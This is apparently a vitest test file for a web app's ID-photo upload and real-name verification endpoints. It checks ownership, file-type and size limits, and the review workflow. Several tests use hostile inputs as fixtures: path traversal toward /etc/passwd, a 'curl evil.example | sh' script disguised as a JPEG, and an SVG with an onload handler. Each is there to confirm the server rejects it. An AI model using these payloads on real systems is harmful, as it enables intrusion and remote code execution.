import { expect, it } from 'vitest';
import { describeOnPglite } from './support/harness';
import { uploadImage } from './support/multipart';
import { jpeg, png, webp } from './support/images';
import { idPhotos as photos, memberIdOf, reviewerId } from './support/members';
import { decideVerification } from '@server/kyc/decide';

describeOnPglite('photo uploads', (get) => {
  it('stores a photo by content, stripped of metadata, readable by its owner only', async () => {
    const s = get();
    const owner = await s.registerByEmail('photo-owner@example.com');
    const other = await s.registerByEmail('photo-other@example.com');
    const up = await uploadImage(s, owner.token, 'realname_front', jpeg('GPS 37.5665N'));
    expect(up.body).toMatchObject({ code: 0, data: { content_type: 'image/jpeg' } });
    const { url } = up.body.data!;

    const read = await s.running.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${owner.token}` } });
    expect(read.statusCode).toBe(200);
    expect(read.headers['content-type']).toBe('image/jpeg');
    expect(read.headers['cache-control']).toBe('private, no-store');
    expect(read.rawPayload.toString('latin1')).not.toContain('GPS');
    expect(read.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xff, 0xd8, 0xff]));

    const stranger = await s.running.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${other.token}` } });
    expect(stranger.statusCode).toBe(404);
    expect(JSON.parse(stranger.body)).toMatchObject({ code: 404, data: null });
    const anonymous = await s.running.app.inject({ method: 'GET', url });
    expect(JSON.parse(anonymous.body)).toMatchObject({ code: 401 });
    const traversal = await s.running.app.inject({
      method: 'GET',
      url: '/api/files/..%2F..%2Fetc%2Fpasswd',
      headers: { authorization: `Bearer ${owner.token}` },
    });
    expect(JSON.parse(traversal.body)).toMatchObject({ code: 404 });
  });

  it('accepts WebP and PNG, and refuses a script renamed to .jpg, an SVG and a truncated image', async () => {
    const s = get();
    const { token } = await s.registerByEmail('photo-kinds@example.com');
    expect((await uploadImage(s, token, 'realname_back', webp(), 'back.webp')).body.data).toMatchObject({ content_type: 'image/webp' });
    expect((await uploadImage(s, token, 'realname_back', png(), 'back.png')).body.data).toMatchObject({ content_type: 'image/png' });
    const script = await uploadImage(s, token, 'realname_front', Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'id-front.jpg');
    expect(script.body).toMatchObject({ code: 422, msg: 'Only JPEG, PNG or WebP photos can be uploaded' });
    const svg = await uploadImage(s, token, 'realname_front', Buffer.from('<svg onload="alert(1)"/>'), 'front.png');
    expect(svg.body.code).toBe(422);
    const truncated = await uploadImage(s, token, 'realname_front', png().subarray(0, 40), 'front.png');
    expect(truncated.body.code).toBe(422);
    const { rows } = await s.running.services.db.query<{ n: string }>(
      "SELECT count(*)::text AS n FROM uploads WHERE purpose = 'realname_front' AND member_id = (SELECT id FROM members WHERE email = 'photo-kinds@example.com')",
    );
    expect(rows[0]!.n).toBe('0');
  });

  it('refuses a 20 MB image and a path in the file name, with a clear message', async () => {
    const s = get();
    const { token } = await s.registerByEmail('photo-attacks@example.com');
    const huge = Buffer.concat([png(), Buffer.alloc(20 * 1024 * 1024, 0x41)]);
    const big = await uploadImage(s, token, 'realname_front', huge, 'front.png');
    expect(big.status).toBe(413);
    expect(big.body).toMatchObject({ code: 413, msg: 'Each photo may be at most 5 MB' });
    for (const name of ['../../etc/passwd.jpg', '..\\..\\boot.ini.jpg', 'a/b.jpg']) {
      const res = await uploadImage(s, token, 'realname_front', jpeg(), name);
      expect(res.body, name).toMatchObject({ code: 400, msg: 'The file name is not allowed. Rename the photo and try again' });
    }
  });

  it('refuses an unknown purpose and a JSON body on the upload call', async () => {
    const s = get();
    const { token } = await s.registerByEmail('photo-shape@example.com');
    expect((await uploadImage(s, token, 'selfie', jpeg())).body.code).toBe(400);
    const json = await s.api('upload/image', { purpose: 'realname_front' }, { token });
    expect(json.body).toMatchObject({ code: 400, msg: 'Send the photo as a multipart form upload' });
  });
});

describeOnPglite('real-name verification', (get) => {
  it('goes from none to review; a failure shows its reason; a resubmission is reviewed again and passes', async () => {
    const s = get();
    const { token, uid } = await s.registerByEmail('kyc@example.com');
    const memberId = await memberIdOf(s, uid);
    expect((await s.api('member/verify.get', undefined, { token })).body.data).toMatchObject({
      status: 'none',
      id_type: null,
      submitted_at: null,
    });

    const submission = { real_name: '  Kim   Minjun ', id_type: 'id_card', id_number: 'ab-1234567', ...(await photos(s, token)) };
    expect((await s.call('POST', 'member/verify', submission, { token })).body).toMatchObject({ code: 0, data: { status: 'review' } });
    const inReview = (await s.api('member/verify.get', undefined, { token })).data;
    expect(inReview).toMatchObject({ status: 'review', real_name: 'Kim Minjun', id_type: 'id_card', id_number: '*****4567', reason: '' });
    expect(inReview.front_img).toMatch(/^\/api\/files\/[A-Za-z0-9_-]{32}$/);
    expect((await s.api('member/info', undefined, { token })).body.data).toMatchObject({ realname_status: 'review' });
    expect((await s.call('POST', 'member/verify', submission, { token })).body).toMatchObject({
      code: 409,
      msg: 'Your verification is under review',
    });
    expect((await s.call('PUT', 'member/verify', submission, { token })).body.code).toBe(409);

    await decideVerification(s.running.services, memberId, { approve: false, reason: 'The back photo is blurred' }, await reviewerId(s));
    expect((await s.api('member/verify.get', undefined, { token })).body.data).toMatchObject({
      status: 'failed',
      reason: 'The back photo is blurred',
    });
    expect((await s.call('POST', 'member/verify', submission, { token })).body).toMatchObject({
      code: 409,
      msg: 'Your verification failed; edit it and submit it again',
    });

    const again = { ...submission, ...(await photos(s, token)) };
    expect((await s.call('PUT', 'member/verify', again, { token })).body).toMatchObject({ code: 0, data: { status: 'review' } });
    expect((await s.api('member/verify.get', undefined, { token })).body.data).toMatchObject({
      status: 'review',
      reason: '',
      reviewed_at: null,
    });
    await decideVerification(s.running.services, memberId, { approve: true }, await reviewerId(s));
    expect((await s.api('member/info', undefined, { token })).body.data).toMatchObject({ realname_status: 'passed' });
    expect((await s.call('PUT', 'member/verify', again, { token })).body).toMatchObject({
      code: 409,
      msg: 'Your real-name verification has already passed',
    });
    await expect(
      decideVerification(s.running.services, memberId, { approve: false, reason: 'late' }, await reviewerId(s)),
    ).rejects.toMatchObject({ code: 409 });
  });

  it('accepts only the member own photos, uploaded for the right side', async () => {
    const s = get();
    const a = await s.registerByEmail('kyc-a@example.com');
    const b = await s.registerByEmail('kyc-b@example.com');
    const mine = await photos(s, a.token);
    const theirs = await photos(s, b.token);
    const base = { real_name: 'Lee Seoyeon', id_type: 'passport', id_number: 'M12345678' };
    const stolen = await s.call(
      'POST',
      'member/verify',
      { ...base, front_img: theirs.front_img, back_img: mine.back_img },
      { token: a.token },
    );
    expect(stolen.body).toMatchObject({ code: 422, msg: 'Upload the front and back photos of your document again' });
    const swapped = await s.call(
      'POST',
      'member/verify',
      { ...base, front_img: mine.back_img, back_img: mine.front_img },
      { token: a.token },
    );
    expect(swapped.body.code).toBe(422);
    const twice = await s.call(
      'POST',
      'member/verify',
      { ...base, front_img: mine.front_img, back_img: mine.front_img },
      { token: a.token },
    );
    expect(twice.body.code).toBe(422);
    expect((await s.api('member/verify.get', undefined, { token: a.token })).body.data).toMatchObject({ status: 'none' });
  });

  it('lets one document verify one account only', async () => {
    const s = get();
    const a = await s.registerByEmail('doc-a@example.com');
    const b = await s.registerByEmail('doc-b@example.com');
    const doc = { real_name: 'Park Jiho', id_type: 'driver_license', id_number: 'DL-99887766' };
    expect((await s.call('POST', 'member/verify', { ...doc, ...(await photos(s, a.token)) }, { token: a.token })).body.code).toBe(0);
    const copy = await s.call(
      'POST',
      'member/verify',
      { ...doc, id_number: 'dl-99887766', ...(await photos(s, b.token)) },
      { token: b.token },
    );
    expect(copy.body).toMatchObject({ code: 422, msg: 'This document is already verified on another account' });
  });

  it('never shows one member the verification of another', async () => {
    const s = get();
    const a = await s.registerByEmail('seen-a@example.com');
    const b = await s.registerByEmail('seen-b@example.com');
    await s.api(
      'member/verify.post',
      { real_name: 'Choi Yuna', id_type: 'id_card', id_number: 'X00001111', ...(await photos(s, a.token)) },
      { token: a.token },
    );
    expect((await s.api('member/verify.get', undefined, { token: b.token })).body.data).toMatchObject({ status: 'none', real_name: '' });
  });
});
